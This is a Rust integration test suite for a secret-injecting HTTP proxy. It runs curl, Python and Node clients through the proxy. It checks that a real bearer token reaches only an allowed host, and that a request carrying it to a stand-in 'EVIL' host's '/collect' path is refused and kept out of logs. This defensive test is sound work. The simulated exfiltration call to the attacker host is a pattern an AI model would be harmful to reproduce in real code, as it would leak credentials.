//! Real, unchanged HTTP clients (curl, Python urllib and requests, Node fetch) driven through
//! the real `agentsecrets proxy` binary with only the environment the webhook injects:
//! proxy variables, CA bundle variables, and the placeholder in the secret's env var.
//! Install the clients with `hack/install-proxy-test-clients.sh`; a missing one fails the test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod secretless_kit;

use secretless_kit::*;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const INSTALL: &str = "bash hack/install-proxy-test-clients.sh";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The `agentsecrets proxy` process, killed on drop; its log is kept to check for leaks.
struct ProxyProcess {
    child: Child,
    port: u16,
    bundle: PathBuf,
    log: PathBuf,
    dir: tempfile::TempDir,
}

impl Drop for ProxyProcess {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn start_proxy(pki: &UpstreamPki) -> ProxyProcess {
    let dir = tempfile::tempdir().unwrap();
    let values = dir.path().join("values.json");
    let doc = serde_json::json!({
        "egress": "open",
        "secrets": [{
            "envName": BEARER_ENV, "placeholder": BEARER_PH, "value": BEARER_VALUE,
            "allowedHosts": [ALLOWED], "injectAs": ["header:Authorization"]
        }, {
            "envName": KEY_ENV, "placeholder": KEY_PH, "value": KEY_VALUE,
            "allowedHosts": ["*.wild.test"], "injectAs": ["header:X-Api-Key", "query:key"]
        }]
    });
    std::fs::write(&values, doc.to_string()).unwrap();
    let upstream_ca = dir.path().join("upstream-ca.pem");
    std::fs::write(&upstream_ca, &pki.ca_pem).unwrap();
    let bundle = dir.path().join("ca-bundle.pem");
    let log = dir.path().join("proxy.log");
    let port = free_port();
    let log_file = std::fs::File::create(&log).unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_agentsecrets"));
    cmd.args(["proxy", "--listen", &format!("127.0.0.1:{port}")])
        .arg("--values-file")
        .arg(&values)
        .arg("--ca-bundle")
        .arg(&bundle)
        .arg("--upstream-ca")
        .arg(&upstream_ca)
        .args(["--log-format", "text"])
        .env("RUST_LOG", "debug")
        .stdout(log_file.try_clone().unwrap())
        .stderr(log_file);
    for host in ALL_HOSTS {
        cmd.arg("--resolve").arg(format!("{host}=127.0.0.1"));
    }
    let child = cmd.spawn().unwrap();
    let started = Instant::now();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "proxy did not start: {}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(bundle.exists(), "the CA bundle is written before listening");
    ProxyProcess {
        child,
        port,
        bundle,
        log,
        dir,
    }
}

/// The sandbox environment the webhook injects, and nothing else of the proxy's.
fn sandbox_env(cmd: &mut Command, proxy: &ProxyProcess) {
    let url = format!("http://127.0.0.1:{}", proxy.port);
    for var in [
        "http_proxy",
        "https_proxy",
        "all_proxy",
        "ALL_PROXY",
        "no_proxy",
        "SSL_CERT_DIR",
    ] {
        cmd.env_remove(var);
    }
    cmd.env("HTTPS_PROXY", &url)
        .env("HTTP_PROXY", &url)
        .env("https_proxy", &url)
        .env("http_proxy", &url)
        .env("NO_PROXY", "localhost,127.0.0.1,::1")
        .env("SSL_CERT_FILE", &proxy.bundle)
        .env("NODE_EXTRA_CA_CERTS", &proxy.bundle)
        .env("REQUESTS_CA_BUNDLE", &proxy.bundle)
        .env("CURL_CA_BUNDLE", &proxy.bundle)
        .env(BEARER_ENV, BEARER_PH)
        .env(KEY_ENV, KEY_PH);
}

fn require(program: &str, args: &[&str]) {
    let ok = Command::new(program)
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "{program} {args:?} is not available: run `{INSTALL}`");
}

/// Runs a client; returns (status line, body) from its stdout: first line the status code.
fn run_client(mut cmd: Command) -> (u16, String) {
    let out = cmd.output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "client failed: {}\n{stdout}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let (status, body) = stdout.split_once('\n').unwrap_or((&stdout, ""));
    (
        status
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("no status in {stdout:?}")),
        body.to_owned(),
    )
}

type ClientFactory = fn(&ProxyProcess, &str) -> Command;

fn curl(proxy: &ProxyProcess, url: &str) -> Command {
    require("curl", &["--version"]);
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg(r#"curl -sS -w '%{http_code}\n' -o body.out -H "Authorization: Bearer $X_BEARER_TOKEN" "$1" && cat body.out"#)
        .arg("sh")
        .arg(url)
        .current_dir(proxy.dir.path());
    sandbox_env(&mut cmd, proxy);
    cmd
}

const PY_URLLIB: &str = r#"
import os, sys, urllib.request, urllib.error
req = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["X_BEARER_TOKEN"]})
try:
    with urllib.request.urlopen(req, timeout=20) as r:
        status, body = r.status, r.read()
except urllib.error.HTTPError as e:
    status, body = e.code, e.read()
print(status)
print(body.decode())
"#;

fn python_urllib(proxy: &ProxyProcess, url: &str) -> Command {
    require("python3", &["--version"]);
    let mut cmd = Command::new("python3");
    cmd.arg("-c").arg(PY_URLLIB).arg(url);
    sandbox_env(&mut cmd, proxy);
    cmd
}

const PY_REQUESTS: &str = r#"
import os, sys, requests
r = requests.get(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["X_BEARER_TOKEN"]}, timeout=20)
print(r.status_code)
print(r.text)
"#;

fn python_requests(proxy: &ProxyProcess, url: &str) -> Command {
    require("python3", &["-c", "import requests"]);
    let mut cmd = Command::new("python3");
    cmd.arg("-c").arg(PY_REQUESTS).arg(url);
    sandbox_env(&mut cmd, proxy);
    cmd
}

const NODE_FETCH: &str = r#"
(async () => {
  const r = await fetch(process.argv[1], { headers: { authorization: 'Bearer ' + process.env.X_BEARER_TOKEN } });
  console.log(r.status);
  console.log(await r.text());
})().catch((e) => { console.error(e); process.exit(1); });
"#;

/// Whether this Node's fetch honours the proxy variables by itself (NODE_USE_ENV_PROXY=1:
/// Node >= 24, or 22.21 and later 22.x).
fn node_has_env_proxy() -> bool {
    let out = Command::new("node").arg("--version").output().unwrap();
    let version = String::from_utf8_lossy(&out.stdout);
    let mut parts = version.trim().trim_start_matches('v').split('.');
    let major: u32 = parts.next().and_then(|p| p.parse().ok()).unwrap_or(0);
    let minor: u32 = parts.next().and_then(|p| p.parse().ok()).unwrap_or(0);
    major >= 24 || (major == 22 && minor >= 21)
}

fn node_fetch(proxy: &ProxyProcess, url: &str) -> Command {
    require("node", &["--version"]);
    let mut cmd = Command::new("node");
    cmd.arg("-e").arg(NODE_FETCH).arg(url);
    sandbox_env(&mut cmd, proxy);
    cmd.env("NODE_USE_ENV_PROXY", "1");
    if !node_has_env_proxy() {
        // Node 20: the global fetch ignores HTTPS_PROXY; the preload installs undici's
        // EnvHttpProxyAgent as the global dispatcher. The script itself is unchanged.
        let modules = repo().join("target/proxy-test-clients/node_modules");
        assert!(
            modules.join("undici/package.json").exists(),
            "undici is not installed for Node's fetch: run `{INSTALL}`"
        );
        let preload = repo().join("hack/node-env-proxy-preload.cjs");
        cmd.env("NODE_PATH", modules)
            .env("NODE_OPTIONS", format!("--require {}", preload.display()));
    }
    cmd
}

async fn client_round_trip(name: &str, make: ClientFactory) {
    let pki = UpstreamPki::new();
    let upstream = Upstream::start(&pki, true).await;
    let evil = Upstream::start(&pki, true).await;
    let proxy = tokio::task::spawn_blocking({
        let pki = pki.clone();
        move || start_proxy(&pki)
    })
    .await
    .unwrap();

    let allowed_url = format!("https://{ALLOWED}:{}/echo", upstream.port());
    let cmd = make(&proxy, &allowed_url);
    let (status, body) = tokio::task::spawn_blocking(move || run_client(cmd))
        .await
        .unwrap();
    assert_eq!(status, 200, "{name}: {body}");
    assert_eq!(
        upstream.last().header("authorization"),
        Some(format!("Bearer {BEARER_VALUE}").as_str()),
        "{name}: the value reaches the allowed host"
    );
    assert!(
        body.contains(&format!("authorization=Bearer {BEARER_PH};")),
        "{name}: the echoed value comes back masked: {body}"
    );
    assert!(!body.contains(BEARER_VALUE), "{name}: {body}");

    let evil_url = format!("https://{EVIL}:{}/collect", evil.port());
    let cmd = make(&proxy, &evil_url);
    let (status, body) = tokio::task::spawn_blocking(move || run_client(cmd))
        .await
        .unwrap();
    assert_eq!(status, 403, "{name}: {body}");
    assert!(
        body.contains(BEARER_ENV) && body.contains(EVIL),
        "{name}: {body}"
    );
    assert!(evil.recorded().is_empty(), "{name}: nothing reached {EVIL}");

    let log = std::fs::read_to_string(&proxy.log).unwrap();
    assert!(log.contains("refused a request"), "{name}: {log}");
    assert!(
        !log.contains(BEARER_VALUE),
        "{name}: value in the proxy log"
    );
}

#[tokio::test]
async fn curl_uses_the_placeholder_unchanged() {
    client_round_trip("curl", curl).await;
}

#[tokio::test]
async fn python_urllib_uses_the_placeholder_unchanged() {
    client_round_trip("python urllib", python_urllib).await;
}

#[tokio::test]
async fn python_requests_uses_the_placeholder_unchanged() {
    client_round_trip("python requests", python_requests).await;
}

#[tokio::test]
async fn node_fetch_uses_the_placeholder_with_the_injected_environment() {
    client_round_trip("node fetch", node_fetch).await;
}

#[test]
fn the_proxy_refuses_a_non_loopback_listen_address() {
    let dir = tempfile::tempdir().unwrap();
    let values = dir.path().join("values.json");
    std::fs::write(&values, r#"{"secrets": []}"#).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_agentsecrets"))
        .args(["proxy", "--listen", "0.0.0.0:0"])
        .arg("--values-file")
        .arg(&values)
        .arg("--ca-bundle")
        .arg(dir.path().join("bundle.pem"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--allow-non-loopback"), "{stderr}");
    assert!(!Path::new(&dir.path().join("bundle.pem")).exists());
}

#[test]
fn proxy_help_explains_the_loopback_rule_and_the_values_file() {
    let out = Command::new(env!("CARGO_BIN_EXE_agentsecrets"))
        .args(["proxy", "--help"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let help = String::from_utf8_lossy(&out.stdout);
    for needle in [
        "--allow-non-loopback",
        "--values-file",
        "--ca-bundle",
        "--upstream-ca",
    ] {
        assert!(help.contains(needle), "proxy help lacks {needle}:\n{help}");
    }
}
